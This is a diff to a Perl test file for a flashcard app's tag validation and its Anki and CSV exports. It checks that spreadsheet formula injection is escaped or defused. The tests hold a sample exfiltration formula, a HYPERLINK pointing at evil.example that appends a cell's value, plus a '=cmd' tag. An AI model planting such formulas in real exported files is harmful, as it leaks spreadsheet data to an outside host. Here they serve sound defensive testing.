@@ -114,6 +114,9 @@ for my $bad (
 	[{ front => 'x', back => 'y', tags => [1] }, 'a number as a tag'],
 	[{ front => 'x', back => 'y', tags => [map {"t$_"} 1 .. 21] }, 'too many tags'],
 	[{ front => 'x', back => 'y', tags => ['x' x 65] }, 'a tag too long'],
+	[{ front => 'x', back => 'y', tags => ['=cmd'] }, 'a tag starting a formula'],
+	[{ front => 'x', back => 'y', tags => ['a"b'] }, 'a tag with a quote'],
+	[{ front => 'x', back => 'y', tags => ["a\tb"] }, 'a tag with a tab'],
 	)
 {
 	my ($payload, $what) = @$bad;
@@ -417,14 +420,36 @@ is($st, 200, 'export answers 200');
 like($h->{'content-type'}, qr{^text/plain; charset=utf-8}, 'plain text');
 like($h->{'content-disposition'} // '', qr/attachment; filename="lectern-cards\.txt"/, 'as a file');
 my @lines = split /\n/, $raw;
-is_deeply([@lines[0 .. 5]], ["#separator:tab", "#html:false", "#notetype:Basic", "#deck:Lectern", "#columns:Front\tBack\tTags", "#tags column:3"], 'Anki headers');
+is_deeply([@lines[0 .. 5]], ["#separator:tab", "#html:true", "#notetype:Basic", "#deck:Lectern", "#columns:Front\tBack\tTags", "#tags column:3"], 'Anki headers');
 my ($fr) = grep { /HYPERLINK/ } @lines;
-like($fr // '', qr/^"'=HYPERLINK\(""http/, 'the formula is quoted and defused');
+is($fr, "&#61;HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)\t&#45;2+3&#9;tab<br>line\tevil",
+	'the formula starts with a character reference, HTML escaped, on one line');
 ok((grep { /^Capital of France\?\tParis \(Île-de-France\)\tgeo$/ } @lines), 'a plain note: front, back, tags');
-ok(!grep({ /^=|^\+|^-|^@/ } @lines), 'no line starts a formula');
+ok(!grep({ /^[=+\-@\t\r"]/ } @lines), 'no line starts a formula or a quote');
+# Read back as Anki reads it: meta lines, then tab-separated HTML fields.
+my @notes;
+my $shape = 1;
+for my $line (grep { !/^#/ } @lines) {
+	my @f = split /\t/, $line, -1;
+	$shape &&= @f == 3;
+	for (@f[0, 1]) {
+		s/<br>/\n/g;
+		s/&#(\d+);/chr($1)/ge;
+		s/&quot;/"/g;
+		s/&lt;/</g;
+		s/&gt;/>/g;
+		s/&amp;/&/g;
+	}
+	push @notes, join("\x1f", @f);
+}
+ok($shape, 'every note has front, back and tags');
+($st, undef, my $mine) = call(GET => "$base?limit=100", auth($alice));
+my $note_key = sub { join "\x1f", $_[0]{front}, $_[0]{back}, join(' ', @{ $_[0]{tags} }) };
+is_deeply([sort @notes], [sort map { $note_key->($_) } @$mine], 'the Anki export reads back as every card');
 ($st, $h, undef, my $csv) = call(GET => "$base/export?format=csv", auth($alice));
 is($st, 200, 'CSV export');
 like($h->{'content-type'}, qr{^text/csv}, 'text/csv');
+like($csv, qr/^"'=HYPERLINK\(""http/m, 'CSV: the formula is quoted and defused with an apostrophe');
 ($st, undef, my $imp) = call(POST => "$base/import", auth($bob, { 'Content-Type' => 'text/csv' }), $csv);
 is($st, 201, 'the export imports') or diag($json->encode($imp // {}));
 is($imp->{imported}, $total + 1, 'every card');
